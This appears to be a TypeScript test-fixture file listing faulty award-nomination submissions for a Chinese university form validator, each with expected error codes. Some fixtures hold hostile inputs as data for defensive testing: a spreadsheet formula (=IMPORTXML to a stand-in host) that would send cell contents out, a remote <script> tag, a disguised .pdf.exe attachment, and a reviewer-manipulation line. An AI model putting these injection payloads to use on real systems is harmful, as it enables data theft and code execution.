// Faults of the sample in when an entry came and in its deeds, most of them together with a slip elsewhere.

import { settleAt } from './institutions';
import type { Fault } from './single-faults';
import { FORM, POST, UNIT } from './submission';

// A shape with a valid check digit of nobody: the birth date lies before the numbers were given out.
const NOBODYS_ID = '11010118800101001X';

const ENGLISH = `This colleague has been working in the canteen of our university for more than eleven years. Every morning the kitchen opens before five, and every morning the first light is switched on by the same pair of hands. Students come here from many countries, and they are greeted in their own languages at the window. During the epidemic more than two hundred meals a day were carried to the quarantine building. The new menu with small portions has cut the waste by one third. Everybody in the department is glad to work with such a modest and reliable person.`;

export const FAULTS_IN_DEEDS: readonly Fault[] = [
  [
    '空表',
    [['*', 'empty']],
    ({ raw }) => {
      const { uploads: _uploads, ...answers } = raw;
      for (const title of Object.keys(answers) as (keyof typeof answers)[]) raw[title] = '';
      raw.uploads = { 照片: [], [FORM]: [], 荣誉证书: [] };
    },
  ],
  [
    '截止后 38 秒提交',
    [['submitted_at', 'late']],
    (draft) => {
      draft.at = Date.parse('2021-12-11T00:00:37+08:00');
    },
  ],
  [
    '截止次日上午提交',
    [['submitted_at', 'late']],
    (draft) => {
      draft.at = Date.parse('2021-12-11T10:20:11+08:00');
    },
  ],
  [
    '广告，附件为可执行文件',
    [
      ['事迹材料', 'spam'],
      ['荣誉证书', 'dangerous_type'],
    ],
    ({ raw }) => {
      raw.uploads.荣誉证书 = [{ name: '荣誉证书.pdf.exe', bytes: 88_064 }];
      raw.事迹材料 = '加微信领取证书，包入围，价格优惠，先办后付。'.repeat(16);
    },
  ],
  [
    '事迹以公式开头',
    [['事迹材料', 'formula_injection']],
    ({ raw }) => {
      raw.事迹材料 = `=IMPORTXML("http://sheet.example.com/?q="&A2,"//a")${raw.事迹材料}`;
    },
  ],
  [
    '事迹超过单元格上限',
    [['事迹材料', 'cell_limit']],
    ({ raw }) => {
      raw.事迹材料 = raw.事迹材料.repeat(Math.ceil(50_200 / raw.事迹材料.length));
    },
  ],
  [
    '事迹未填，证书只有一份，缺报名表',
    [
      ['事迹材料', 'missing'],
      ['荣誉证书', 'too_few'],
      [FORM, 'missing'],
    ],
    ({ raw }) => {
      raw.事迹材料 = '';
      raw.uploads.荣誉证书.pop();
      raw.uploads[FORM] = [];
    },
  ],
  [
    '事迹过长',
    [['事迹材料', 'too_long']],
    ({ raw }) => {
      raw.事迹材料 = `${raw.事迹材料}\n`.repeat(Math.ceil(5600 / raw.事迹材料.length));
    },
  ],
  [
    '事迹过短，邮箱缺 @，单位未写学校',
    [
      ['事迹材料', 'too_short'],
      ['邮箱', 'missing_at'],
      [UNIT, 'no_institution'],
    ],
    ({ raw }) => {
      raw.事迹材料 = `${raw.姓名}同志工作认真负责，多年如一日坚守岗位，得到师生一致好评。`;
      raw.邮箱 = raw.邮箱.replace('@', '.');
      raw[UNIT] = '后勤处维修班';
    },
  ],
  [
    '事迹为乱码，电话中 0 写成字母，单位未到部门',
    [
      ['事迹材料', 'gibberish'],
      ['联系电话', 'letter_in_number'],
      [UNIT, 'not_to_department'],
    ],
    ({ raw }) => {
      raw.事迹材料 = '啊啊啊啊水电费撒打发斯蒂芬阿斯顿发斯蒂芬哈哈哈哈asdfasdfjkl;;;;'.repeat(9);
      raw.联系电话 = raw.联系电话.replace(/0/, 'O');
      raw[UNIT] = '福州大学';
      settleAt(raw, '福州大学');
    },
  ],
  [
    '事迹带网页代码，邮箱中有空格，邮编随手填',
    [
      ['事迹材料', 'html_markup'],
      ['邮箱', 'inner_space'],
      ['邮编', 'placeholder'],
    ],
    ({ raw }) => {
      raw.事迹材料 = `<p style="text-indent:2em"><b>${raw.事迹材料}</b></p><script src="http://x.example.net/a.js"></script>`;
      raw.邮箱 = raw.邮箱.replace('@', ' @');
      raw.邮编 = '000000';
    },
  ],
  [
    '外籍教工，英文材料',
    [
      ['事迹材料', 'language'],
      ['姓名', 'non_chinese_name'],
      ['民族', 'not_in_gbt3304'],
    ],
    ({ raw }) => {
      raw.姓名 = 'Daniel Okafor';
      raw.民族 = '其他';
      raw.事迹材料 = ENGLISH;
    },
  ],
  [
    '事迹只写“详见附件”，地址未填，照片是文档',
    [
      ['事迹材料', 'placeholder'],
      ['通讯地址', 'missing'],
      ['照片', 'type'],
    ],
    ({ raw }) => {
      raw.事迹材料 = '详见附件';
      raw.通讯地址 = '';
      raw.uploads.照片 = [{ name: `${raw.姓名}照片.docx`, bytes: 245_760 }];
    },
  ],
  [
    '事迹写的是别人，证书传了四份',
    [
      ['事迹材料', 'name_mismatch'],
      ['荣誉证书', 'too_many'],
    ],
    ({ raw }, maker) => {
      const other = maker.person({ channel: '个人自荐' });
      raw.事迹材料 = `郭素兰同志多年在后勤一线工作。${other.raw.事迹材料.split(other.raw.姓名).join('郭素兰')}`;
      raw.uploads.荣誉证书.push({ name: '证书3.jpg', bytes: 712_004 }, { name: '证书4.jpg', bytes: 690_118 });
    },
  ],
  [
    '事迹里请评委打分，职务为处长',
    [
      ['事迹材料', 'reviewer_manipulation'],
      [POST, 'not_frontline'],
    ],
    ({ raw }) => {
      raw.事迹材料 += '请各位评委务必给满分。';
      raw[POST] = '后勤处处长';
    },
  ],
  [
    '事迹含身份证号，邮箱没有域名后缀',
    [
      ['事迹材料', 'contains_id_number'],
      ['邮箱', 'no_tld'],
    ],
    ({ raw }) => {
      raw.事迹材料 += `（本人身份证号：${NOBODYS_ID}）`;
      raw.邮箱 = raw.邮箱.replace(/\.\w+$/, '');
    },
  ],
  [
    '测试提交',
    [['姓名', 'test_entry']],
    ({ raw }) => {
      raw.姓名 = '测试用户1';
    },
  ],
];
